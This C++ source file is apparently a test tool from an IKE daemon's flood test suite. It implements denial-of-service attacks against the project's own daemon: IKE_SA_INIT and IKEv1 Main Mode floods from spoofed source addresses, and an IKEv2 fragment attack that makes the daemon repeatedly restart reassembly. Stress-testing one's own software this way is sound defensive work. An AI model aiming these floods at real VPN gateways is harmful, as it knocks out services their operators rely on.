// sys-ike-flood: the IKE attacks of the combined namespace flood test (combined_flood_test.sh).
// Every message is built by oakley's own engines and sealed with its own key derivation, so the
// daemon under attack does the full work a real peer of that configuration would cost it.
//   sys-ike-flood init TARGET FIRST-LAST SECONDS RATE
//       IKE_SA_INIT requests (a throwaway IKEv2 engine's first message, a fresh initiator SPI
//       each) from random source addresses of FIRST-LAST, through a raw socket (root).
//   sys-ike-flood mm1 TARGET FIRST-LAST SECONDS RATE
//       The same with IKEv1 Main Mode first messages (MM1, a fresh initiator cookie each).
//   sys-ike-flood skf TARGET LOCAL SECONDS RATE
//       A real IKE_SA_INIT from LOCAL:500 with IKEV2_FRAGMENTATION_SUPPORTED (cookies and
//       retransmissions handled by the engine), then no IKE_AUTH but SKF fragments of one
//       (RFC 7383), sealed with the SA's own SK_ei/SK_ai (see skf_fragment): announcing 65535
//       fragments, restarting the reassembly with ever larger totals, and passing max_packet.
// Prints the number of attack packets sent. Exit 1 when the attack could not start.
#include <arpa/inet.h>
#include <netinet/in.h>
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <memory>
#include <random>
#include <string>
#include <thread>

#include "common/log.hpp"
#include "common/timer_heap.hpp"
#include "config/config.hpp"
#include "credentials/loaded_config.hpp"
#include "crypto/random.hpp"
#include "dataplane/null_backend.hpp"
#include "ike/reqid_allocator.hpp"
#include "ikev1/engine.hpp"
#include "ikev2/engine.hpp"
#include "ikev2/sk_message.hpp"
#include "tools/oakload/flooder.hpp"
#include "tools/oakload/init_template.hpp"

namespace {

using namespace oakley;
namespace w = wire::ikev2;

constexpr std::uint16_t kIkePort = 500;
constexpr std::uint8_t kIkeSaInit = 34;       // exchange type byte of an IKEv2 header
constexpr std::size_t kFragmentBytes = 1300;  // per SKF, below the veth's MTU
constexpr std::uint16_t kHugeTotal = 0xffff;  // Total Fragments the daemon must refuse
constexpr std::uint16_t kMaxFragments = 32;   // the daemon's default max_fragments
constexpr std::uint64_t kBatch = 256;         // SKF packets per pacing step at most
constexpr auto kSetupTimeout = std::chrono::seconds(10);

// The attacker's side of the daemon's "attack" connections (the test's right.conf). The PSK is
// not right's: nothing here ever authenticates.
std::string attacker_config(int version, const std::string& local, const std::string& target) {
  std::string proposals = version == 2 ? "aes128gcm16-prfsha256-x25519" : "aes128-sha256-modp2048";
  std::string esp = version == 2 ? "aes128gcm16" : "aes128-sha256";
  return "connections {\n flood {\n  version = " + std::to_string(version) +
         "\n  local_addrs = " + local + "\n  remote_addrs = " + target +
         "\n  proposals = " + proposals +
         "\n  local {\n   auth = psk\n   id = attacker@sys.test\n  }"
         "\n  remote {\n   auth = psk\n   id = right@sys.test\n  }"
         "\n  children {\n   net {\n    local_ts = 10.9.0.0/24\n    remote_ts = 10.2.0.0/24"
         "\n    esp_proposals = " +
         esp +
         "\n   }\n  }\n }\n}\nsecrets {\n ike-x {\n  id = attacker@sys.test\n"
         "  secret = \"not-the-daemons-psk-0123456789\"\n }\n}\n";
}

std::shared_ptr<const credentials::LoadedConfig> load(const std::string& text) {
  auto loaded = config::load_string(text, "sys-ike-flood.conf");
  if (!loaded) {
    std::fprintf(stderr, "config: %s\n", loaded.error().message.c_str());
    std::exit(2);
  }
  return std::make_shared<const credentials::LoadedConfig>(std::move(*loaded));
}

IpAddress address(const char* text) {
  auto a = IpAddress::parse(text);
  if (!a || a->family() != IpAddress::Family::kV4) {
    std::fprintf(stderr, "not an IPv4 address: %s\n", text);
    std::exit(2);
  }
  return *a;
}

TrafficSelector range(const std::string& text) {
  auto dash = text.find('-');
  if (dash == std::string::npos) {
    std::fprintf(stderr, "sources must be FIRST-LAST: %s\n", text.c_str());
    std::exit(2);
  }
  TrafficSelector ts;
  ts.start = address(text.substr(0, dash).c_str());
  ts.end = address(text.substr(dash + 1).c_str());
  return ts;
}

// Keeps the first message an engine sends (its initiation) and sends nothing.
class FirstMessage final : public PacketSender {
 public:
  void send(const Endpoint&, const Endpoint&, ByteView message) override {
    if (!first) first = Bytes(message.begin(), message.end());
  }
  void send_keepalive(const Endpoint&, const Endpoint&) override {}
  std::optional<IpAddress> source_for(const IpAddress&) override {
    return IpAddress::any(IpAddress::Family::kV4);
  }
  std::optional<Bytes> first;
};

Result<Bytes> main_mode_first_message(const std::string& target) {
  TimerHeap timers{Clock::now()};
  InlineWorkPool work;
  FirstMessage sender;
  dataplane::NullBackend backend;
  ike::ReqidAllocator reqids;
  ike::SaIds ids;
  ikev1::Engine engine({timers, work, sender, backend, reqids, ids},
                       load(attacker_config(1, "%any", target)),
                       {.install_children = false, .run_start_actions = false});
  auto st = engine.initiate("flood", "net", nullptr);
  if (!st) return st.take_error();
  if (!sender.first) return make_error("the IKEv1 engine sent no Main Mode message");
  return std::move(*sender.first);
}

Result<Bytes> ike_sa_init_request(const std::string& target) {
  TimerHeap timers{Clock::now()};
  auto cfg = load(attacker_config(2, "%any", target));
  const auto& conn = cfg->connections.front();
  return oakload::capture_ike_sa_init(cfg, conn, Endpoint{address(target.c_str()), kIkePort},
                                      timers);
}

// The spoofed floods: oakload's flooder sends the copies, each with a fresh SPI or cookie.
int run_spoofed(const std::string& mode, const std::string& target, const std::string& sources,
                double seconds, double rate) {
  auto message = mode == "init" ? ike_sa_init_request(target) : main_mode_first_message(target);
  if (!message) {
    std::fprintf(stderr, "%s: %s\n", mode.c_str(), message.error().message.c_str());
    return 1;
  }
  oakload::Flooder flooder(std::move(*message), Endpoint{address(target.c_str()), kIkePort},
                           range(sources), rate);
  if (auto st = flooder.start(); !st) {
    std::fprintf(stderr, "%s\n", st.error().message.c_str());
    return 1;
  }
  std::this_thread::sleep_for(std::chrono::duration<double>(seconds));
  flooder.stop();
  std::printf("%llu\n", static_cast<unsigned long long>(flooder.sent()));
  return 0;
}

// --- skf ------------------------------------------------------------------------------------

int bound_socket(const IpAddress& local) {
  int fd = ::socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
  sockaddr_in a{};
  a.sin_family = AF_INET;
  a.sin_port = htons(kIkePort);
  std::memcpy(&a.sin_addr, local.bytes().data(), 4);
  if (fd < 0 || ::bind(fd, reinterpret_cast<sockaddr*>(&a), sizeof a) != 0) {
    std::perror("bind UDP 500");
    std::exit(1);
  }
  return fd;
}

void send_to(int fd, const Endpoint& to, ByteView data) {
  sockaddr_in a{};
  a.sin_family = AF_INET;
  a.sin_port = htons(to.port);
  std::memcpy(&a.sin_addr, to.address.bytes().data(), 4);
  (void)::sendto(fd, data.data(), data.size(), 0, reinterpret_cast<sockaddr*>(&a), sizeof a);
}

// Lets only IKE_SA_INIT (and its cookie retries) out: the engine's IKE_AUTH never leaves, so the
// daemon's SA stays half-open and expects IKE_AUTH fragments with message ID 1.
class InitOnlySender final : public PacketSender {
 public:
  InitOnlySender(int fd, IpAddress self) : fd_(fd), self_(self) {}
  void send(const Endpoint&, const Endpoint& remote, ByteView message) override {
    if (message.size() > 18 && message[18] == kIkeSaInit) send_to(fd_, remote, message);
  }
  void send_keepalive(const Endpoint&, const Endpoint&) override {}
  std::optional<IpAddress> source_for(const IpAddress&) override { return self_; }

 private:
  int fd_;
  IpAddress self_;
};

// Runs the initiator engine on the socket until its SA has keys (IKE_SA_INIT done).
ikev2::IkeSa* complete_ike_sa_init(ikev2::Engine& engine, TimerHeap& timers, int fd,
                                   const Endpoint& self) {
  auto deadline = Clock::now() + kSetupTimeout;
  std::uint8_t buf[65536];
  while (Clock::now() < deadline) {
    timers.run_until(Clock::now());
    for (const auto& info : engine.list_sas()) {
      ikev2::IkeSa* sa = engine.find_sa(info.id);
      if (sa && sa->crypter) return sa;
    }
    pollfd p{fd, POLLIN, 0};
    if (::poll(&p, 1, 50) <= 0) continue;
    sockaddr_in from{};
    socklen_t len = sizeof from;
    auto n = ::recvfrom(fd, buf, sizeof buf, 0, reinterpret_cast<sockaddr*>(&from), &len);
    if (n <= 0) continue;
    Endpoint remote{
        *IpAddress::from_bytes(ByteView(reinterpret_cast<std::uint8_t*>(&from.sin_addr), 4)),
        ntohs(from.sin_port)};
    engine.on_packet(ByteView(buf, static_cast<std::size_t>(n)), self, remote);
  }
  return nullptr;
}

// One fragment of the attack, in a cycle that makes the daemon store, restart and drop
// reassemblies as fast as it can: even packets claim 65535 fragments (refused before decryption);
// odd ones are fragment 1 of 2, 3, ..., 32 fragments (each larger total starts the reassembly over,
// RFC 7383 2.6), then fragments 2..8 of 32, which pass max_packet together (dropped).
Bytes skf_fragment(ikev2::IkeSa& sa, std::uint64_t i, std::mt19937_64& random) {
  constexpr std::uint64_t kRising = kMaxFragments - 1;  // totals 2..32
  constexpr std::uint64_t kCycle = kRising + 7;         // then fragments 2..8 of 32
  w::Header h;
  h.initiator_spi = sa.spi_i;
  h.responder_spi = sa.spi_r;
  h.exchange_type = w::ExchangeType::kIkeAuth;
  h.message_id = 1;
  h.flags = w::kFlagInitiator;
  Bytes part(kFragmentBytes);
  for (auto& b : part)
    b = static_cast<std::uint8_t>(random());
  std::uint16_t number = 1, total = kHugeTotal;
  if (i % 2 == 0) {
    number = static_cast<std::uint16_t>(1 + random() % kHugeTotal);
  } else if (std::uint64_t k = (i / 2) % kCycle; k < kRising) {
    total = static_cast<std::uint16_t>(k + 2);
  } else {
    number = static_cast<std::uint16_t>(k - kRising + 2);
    total = kMaxFragments;
  }
  auto packet = ikev2::seal_skf_message(*sa.crypter, h, w::PayloadType::kNone, number, total, part);
  return packet ? std::move(*packet) : Bytes{};
}

int run_skf(const std::string& target_text, const std::string& local_text, double seconds,
            double rate) {
  IpAddress local = address(local_text.c_str());
  Endpoint target{address(target_text.c_str()), kIkePort};
  int fd = bound_socket(local);
  TimerHeap timers{Clock::now()};
  InlineWorkPool work;
  InitOnlySender sender(fd, local);
  dataplane::NullBackend backend;
  ike::ReqidAllocator reqids;
  ike::SaIds ids;
  ikev2::Engine engine({timers, work, sender, backend, reqids, ids},
                       load(attacker_config(2, local_text, target_text)),
                       {.install_children = false, .run_start_actions = false});
  if (auto st = engine.initiate("flood", "net", nullptr); !st) {
    std::fprintf(stderr, "skf: %s\n", st.error().message.c_str());
    return 1;
  }
  ikev2::IkeSa* sa = complete_ike_sa_init(engine, timers, fd, Endpoint{local, kIkePort});
  if (!sa || !sa->peer_supports_fragmentation) {
    std::fprintf(stderr, "skf: no IKE_SA_INIT with fragmentation within %llds\n",
                 static_cast<long long>(kSetupTimeout.count()));
    return 1;
  }
  std::fprintf(stderr, "skf: IKE SA %016llx_i %016llx_r has keys, flooding fragments\n",
               static_cast<unsigned long long>(sa->spi_i),
               static_cast<unsigned long long>(sa->spi_r));
  std::mt19937_64 random(crypto::random_u64());
  auto start = Clock::now();
  auto end = start + std::chrono::duration_cast<Duration>(std::chrono::duration<double>(seconds));
  std::uint64_t sent = 0, fragments = 0;  // `sent` paces, `fragments` counts and cycles
  while (Clock::now() < end) {
    double elapsed = std::chrono::duration<double>(Clock::now() - start).count();
    auto due = static_cast<std::uint64_t>(elapsed * rate);
    // A rate beyond what this thread can seal is "as fast as possible": never fall behind by more
    // than one batch, so the loop still sees the end.
    if (due > sent + kBatch) sent = due - kBatch;
    for (; sent < due; ++sent) {
      send_to(fd, target, skf_fragment(*sa, fragments, random));
      ++fragments;
    }
    std::this_thread::sleep_for(std::chrono::milliseconds(1));
  }
  std::printf("%llu\n", static_cast<unsigned long long>(fragments));
  ::close(fd);
  return 0;
}

}  // namespace

int main(int argc, char** argv) {
  if (argc != 6) {
    std::fprintf(stderr,
                 "usage: %s init|mm1 TARGET FIRST-LAST SECONDS RATE\n"
                 "       %s skf TARGET LOCAL SECONDS RATE\n",
                 argv[0], argv[0]);
    return 2;
  }
  log::set_level(log::Level::kWarn);  // the engines' own lines are not the test's output
  std::string mode = argv[1];
  double seconds = std::atof(argv[4]);
  double rate = std::atof(argv[5]);
  if (mode == "init" || mode == "mm1") return run_spoofed(mode, argv[2], argv[3], seconds, rate);
  if (mode == "skf") return run_skf(argv[2], argv[3], seconds, rate);
  std::fprintf(stderr, "unknown mode %s\n", mode.c_str());
  return 2;
}
